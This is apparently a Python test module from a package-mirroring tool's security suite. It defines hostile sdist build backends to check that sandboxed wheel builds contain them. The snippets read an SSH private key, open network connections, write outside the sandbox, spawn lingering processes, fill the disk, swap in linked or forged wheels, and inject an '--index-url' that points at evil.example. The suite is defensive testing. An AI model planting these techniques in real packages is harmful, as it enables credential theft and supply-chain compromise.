"""Attacks by an sdist: its back-end runs while a wheel is built, and its wheel is taken by the tool."""

from __future__ import annotations

import contextlib
import tempfile
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING
from unittest import mock

from packaging.utils import canonicalize_name
from packaging.version import Version

from pypi_subset.distributions import filenames
from pypi_subset.model.distributions import Distribution
from pypi_subset.pipeline import rooms
from pypi_subset.pipeline.rooms import BuildRooms
from pypi_subset.proof.methods.prove import check_of
from pypi_subset.sdists import build
from pypi_subset.upstream.builds import NotBuilt
from tests.evidence.hostile.attack import Attack
from tests.evidence.hostile.attacks.aims import green, leaked, marked, outlived, reached, said, signalled, used
from tests.evidence.hostile.attacks.doors import off
from tests.support.stages.sdists import make_buildable
from tests.support.wheels import make_wheel

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence

    from pypi_subset.model.checks import Check
    from pypi_subset.proof.cases.case import Case
    from tests.evidence.hostile.attack import Result
    from tests.evidence.hostile.world import World
    from tests.support.sites.subset_on_disk import SubsetOnDisk
    from tests.support.wheels import Wheel

_KIND = "building"
_MIB = 1 << 20

#: What a back-end does besides: `PRELUDE` has run.
_CODES: dict[str, tuple[str, Callable[[World, Result], bool]]] = {
    "build-writes-outside": ("tried(mark, W['canary'])", marked),
    "build-writes-its-environment": (
        """
        for directory in (sys.prefix, *(one for one in sys.path if one.startswith(sys.prefix))):
            tried(mark, os.path.join(directory, "left.py"))
        """,
        marked,
    ),
    "build-reads-the-home": ("say(tried(read, W['home'] + '/.ssh/id_ed25519'))", leaked),
    "build-opens-the-network": (
        "tried(socket.create_connection, tuple(W['tcp'][:2]), 3); time.sleep(0.3)",
        reached,
    ),
    "build-leaves-a-process": (
        """
        devnull = subprocess.DEVNULL
        spawn("time.sleep(60)", stdin=devnull, stdout=devnull, stderr=devnull, start_new_session=True)
        """,
        outlived,
    ),
    "build-signals-its-judge": ("tried(os.kill, W['judge'], signal.SIGUSR2); time.sleep(0.3)", signalled),
}

#: What stands in the place of the wheel, with the hidden one that it leads to: *place* is where it is expected.
_LINKS = {
    "wheel-is-a-symbolic-link": "os.symlink(W['hidden_wheel'], place)",
    "wheel-is-a-hard-link": "os.link(W['hidden_wheel'], place)",
}

#: What a hook leaves as its result.
_HOOK = """
import os, sys
sys.path.insert(0, os.getcwd())
def get_requires_for_build_wheel(config_settings=None):
    import attack
    attack.answer(sys.argv[-1])
    os._exit(0)
"""


def _built(case: Case, _: SubsetOnDisk, world: World) -> tuple[Check, ...]:
    """Build the sdist of the attack; what the wheel holds stands in the result."""
    folder = Path(tempfile.mkdtemp(prefix="building-", dir=world.work))
    one = Distribution(filename="evil-1.0.tar.gz", project=canonicalize_name("evil"), version=Version("1.0"))

    asked = world.facts["asked"] = list[str]()

    def nothing(requires: Sequence[object]) -> tuple[()]:
        asked.extend(map(str, requires))
        return ()

    try:
        place = BuildRooms(unisolated=not case.isolated)
        made = build.build(world.root / one.filename, one, rooms=place, work=folder, resolve=nothing)
    except NotBuilt as error:
        return (check_of(case, "failed", "\n".join([error.what, *error.details])),)
    with zipfile.ZipFile(made.path) as archive:
        held = [archive.read(name).decode(errors="replace") for name in archive.namelist() if name.endswith(".py")]
    return (check_of(case, "passed", "\n".join([made.path.name, *held])),)


def _by(
    code: str = "", *, lines: tuple[str, ...] = ("import attack",), backend: str = ""
) -> Callable[[World], list[Wheel]]:
    """Return what writes the sdist of an attack, and gives a harmless wheel for the site."""

    def wheels(world: World) -> list[Wheel]:
        hidden = make_wheel("evil", files={"evil.py": f"# {world.token}\n".encode()})
        world.facts["hidden_wheel"] = str(hidden.save(world.home))
        world.facts["hidden_text"] = str(world.home / "answer.json")
        Path(world.facts["hidden_text"]).write_text(f'["{world.token} !"]', encoding="utf-8")
        attack = Attack(name="", kind=_KIND, succeeded=green, code=code)
        files = {"attack.py": attack.source(world)}
        made = make_buildable("evil", code=lines, files=files | ({"own.py": backend} if backend else {}))
        (world.root / made.filename).write_bytes(made.data)
        return [make_wheel("evil")]

    return wheels


def _followed(path: Path, most: int) -> bytes:
    """Read what a build left as any program does."""
    return path.read_bytes()[:most]


@contextlib.contextmanager
def _any_name() -> Iterator[None]:
    """Take a wheel of any project."""
    honest = filenames.parse

    def parse(filename: str) -> object:
        return (canonicalize_name("evil"), Version("1.0"), honest(filename)[2])

    with mock.patch.object(build, "filenames", mock.Mock(parse=parse, INVALID=filenames.INVALID)):
        yield


def _renamed(project: str, version: str, filename: str) -> tuple[str, ...]:
    """Return lines that leave a wheel of another release, or with the METADATA of one."""
    wheel = make_wheel(project, version)
    return (
        f"name = os.path.join(wheel_directory, {filename!r})",
        f"open(name, 'wb').write(bytes.fromhex({wheel.data.hex()!r}))",
        f"return {filename!r}",
    )


_naive = off(build, "_regular", _followed)
_any_metadata = off(build, "check_wheel", lambda *_: b"")

#: What an sdist does.
ATTACKS = [
    *(
        Attack(name=name, kind=_KIND, wheels=_by(code), succeeded=aim, prove=_built)
        for name, (code, aim) in _CODES.items()
    ),
    Attack(
        name="build-opens-its-interpreter",
        kind=_KIND,
        # No byte of it is changed.
        wheels=_by("say('elbatirw'[:: -1 if not isinstance(tried(open, os.__file__, 'r+b'), Exception) else 1])"),
        succeeded=said("writable"),
        prove=_built,
        users=("root",),
    ),
    Attack(
        name="build-fills-the-disk",
        kind=_KIND,
        wheels=_by(
            """
            spawn("time.sleep(1)")
            with open("large", "wb") as stream:
                for _ in range(12):
                    stream.write(bytes(1 << 24))
                    stream.flush()
                    time.sleep(0.25)
            """
        ),
        held=off(rooms, "_WRITTEN", 32 * _MIB),
        door=off(rooms, "_WRITTEN", 1 << 40),
        succeeded=used("disk", 160 * _MIB),
        prove=_built,
    ),
    *(
        Attack(
            name=name,
            kind=_KIND,
            wheels=_by(
                f"def leave(place):\n    {code}\n",
                lines=(
                    "import attack",
                    "place = os.path.join(wheel_directory, 'evil-1.0-py3-none-any.whl')",
                    "attack.leave(place)",
                    "return os.path.basename(place)",
                ),
            ),
            door=_naive if "symbolic" in name else None,
            succeeded=leaked,
            prove=_built,
        )
        for name, code in _LINKS.items()
    ),
    Attack(
        name="wheel-of-another-project",
        kind=_KIND,
        wheels=_by(lines=_renamed("other", "1.0", "other-1.0-py3-none-any.whl")),
        door=_any_name,
        succeeded=green,
        prove=_built,
    ),
    Attack(
        name="wheel-of-another-version",
        kind=_KIND,
        wheels=_by(lines=_renamed("evil", "9.0", "evil-9.0-py3-none-any.whl")),
        door=_any_name,
        succeeded=green,
        prove=_built,
    ),
    Attack(
        name="wheel-with-metadata-of-another",
        kind=_KIND,
        wheels=_by(lines=_renamed("other", "1.0", "evil-1.0-py3-none-any.whl")),
        door=_any_metadata,
        succeeded=green,
        prove=_built,
    ),
    Attack(
        name="hook-answers-with-a-link",
        kind=_KIND,
        wheels=_by("def answer(path):\n    os.symlink(W['hidden_text'], path)\n", backend=_HOOK),
        door=_naive,
        succeeded=leaked,
        prove=_built,
    ),
    Attack(
        name="hook-answers-with-an-option",
        kind=_KIND,
        wheels=_by(
            """
            def answer(path):
                with open(path, "w") as stream:
                    json.dump(["--index-url=https://evil.example/simple tool"], stream)
            """,
            backend=_HOOK,
        ),
        door=off(build, "required", lambda texts, _: texts),
        succeeded=lambda world, _: any("--index-url" in one for one in world.facts["asked"]),
        prove=_built,
    ),
]
